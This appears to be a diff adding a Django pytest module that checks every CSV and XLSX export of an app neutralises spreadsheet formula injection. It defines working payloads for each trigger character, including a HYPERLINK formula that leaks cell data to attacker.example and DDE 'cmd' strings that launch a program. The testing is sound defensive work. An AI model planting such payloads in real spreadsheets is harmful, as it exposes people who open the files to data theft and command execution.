@@ -1,0 +1,111 @@
+"""Formula injection (OWASP "CSV injection"): every export of the app, filled with text that
+starts with each formula trigger (= + - @ tab, carriage return), holds no formula and no text
+cell a spreadsheet program would run. Negative numbers stay numbers."""
+
+from __future__ import annotations
+
+import pytest
+from django.urls import reverse
+
+from assessments.models import Membership, Role
+from outsourcing.spreadsheets import FORMULA_TRIGGERS, cell_neutralise, cell_restore
+from providers.models import Provider
+from tests.factories.roadmaps import capability_get, done_roadmap_for, roadmap_done_create
+from tests.security.spreadsheets import unsafe_csv_cells, unsafe_xlsx_cells
+
+# One text per trigger, each a working payload in some spreadsheet program.
+FORMULAS = {
+    "=": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+    "+": "+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t": "\t=1+1",
+    "\r": "\r=1+1",
+}
+
+
+def test_the_payloads_cover_every_trigger():
+    assert set(FORMULAS) == set(FORMULA_TRIGGERS)
+
+
+def test_neutralising_is_undone_exactly_on_import():
+    for text in [*FORMULAS.values(), "'=1", "''", "plain", "-1.5"]:
+        assert cell_restore(cell_neutralise(text)) == text
+        assert not str(cell_neutralise(text)).startswith(FORMULA_TRIGGERS)
+    assert cell_neutralise(-1.5) == -1.5
+
+
+@pytest.fixture
+def formula_world(organisation, consultant, manager):
+    """Every free-text field that reaches an export starts with a trigger."""
+    organisation.name, organisation.industry, organisation.country = FORMULAS["="], FORMULAS["+"], FORMULAS["@"]
+    organisation.save()
+    roadmap = done_roadmap_for(organisation=organisation, author=consultant, title=FORMULAS["-"])
+    assessment = roadmap.assessment
+    triggers = list(FORMULAS.values())
+    for index, line in enumerate([*assessment.it_cost_areas.all(), *assessment.business_functions.all()]):
+        line.notes = triggers[index % len(triggers)]
+        line.save(update_fields=["notes"])
+    for index, provider in enumerate(Provider.objects.order_by("slug")):
+        provider.name = triggers[index % len(triggers)] + " provider"
+        provider.description = triggers[(index + 1) % len(triggers)]
+        provider.headquarters_country = FORMULAS["@"][:80]
+        provider.save()
+    for code, text in (("compute", FORMULAS["\t"]), ("payroll", FORMULAS["="])):
+        capability = capability_get(code)
+        capability.name = text[:120]
+        capability.save()
+    roadmap.decision_comment = FORMULAS["="]
+    roadmap.save(update_fields=["decision_comment"])
+    scenario = roadmap_done_create(assessment=assessment, name=FORMULAS["@"][:120], overrides={"gate_fraction": 0.7})
+    assert Membership.objects.filter(user=manager, organisation=organisation, role=Role.MANAGER).exists()
+    return roadmap, scenario
+
+
+def test_every_export_neutralises_formulas(formula_world, client_for, manager, administrator):
+    roadmap, scenario = formula_world
+    assessment = roadmap.assessment
+    exports = {
+        "assessment workbook": reverse("assessments:workbook", args=[assessment.pk]),
+        "IT cost areas CSV": reverse("assessments:sheet_csv", args=[assessment.pk, "it-cost-areas"]),
+        "business functions CSV": reverse("assessments:sheet_csv", args=[assessment.pk, "business-functions"]),
+        "roadmap workbook": reverse("assessments:roadmap_export_xlsx", args=[roadmap.pk]),
+        "scenario workbook": reverse("assessments:roadmap_export_xlsx", args=[scenario.pk]),
+        "roadmap items CSV": reverse("assessments:roadmap_export_items_csv", args=[roadmap.pk]),
+        "roadmap cash-flow CSV": reverse("assessments:roadmap_export_cash_flow_csv", args=[roadmap.pk]),
+    }
+    admin_exports = {
+        "catalogue CSV": reverse("admin:providers_provider_export", kwargs={"fmt": "csv"}),
+        "catalogue XLSX": reverse("admin:providers_provider_export", kwargs={"fmt": "xlsx"}),
+        "catalogue template XLSX": reverse("admin:providers_provider_import_template", kwargs={"fmt": "xlsx"}),
+        "catalogue template CSV": reverse("admin:providers_provider_import_template", kwargs={"fmt": "csv"}),
+    }
+    unsafe = []
+    neutralised = 0
+    for client, urls in ((client_for(manager), exports), (client_for(administrator), admin_exports)):
+        for label, url in urls.items():
+            response = client.get(url)
+            assert response.status_code == 200, (label, response.status_code)
+            content = response.content
+            is_xlsx = content.startswith(b"PK")
+            found = unsafe_xlsx_cells(content) if is_xlsx else unsafe_csv_cells(content)
+            unsafe.extend(f"{label}: {cell!r}" for cell in found)
+            neutralised += content.count(b"'=") + content.count(b"'+") + content.count(b"'@") + content.count(b"'-")
+    assert not unsafe, "\n".join(unsafe)
+    # The payloads are in the files, neutralised (a test that found no payload at all would prove nothing).
+    assert neutralised >= 10, neutralised
+
+
+def test_the_checkers_see_a_formula():
+    from openpyxl import Workbook
+
+    assert unsafe_csv_cells(b"name,value\r\n=1+1,-12.5\r\n@SUM(1),'=1\r\n") == ["=1+1", "@SUM(1)"]
+    book = Workbook()
+    book.active["A1"] = "=1+1"
+    book.active["A2"] = "@x"
+    book.active["A3"] = -4
+    import io
+
+    buffer = io.BytesIO()
+    book.save(buffer)
+    assert len(unsafe_xlsx_cells(buffer.getvalue())) == 2
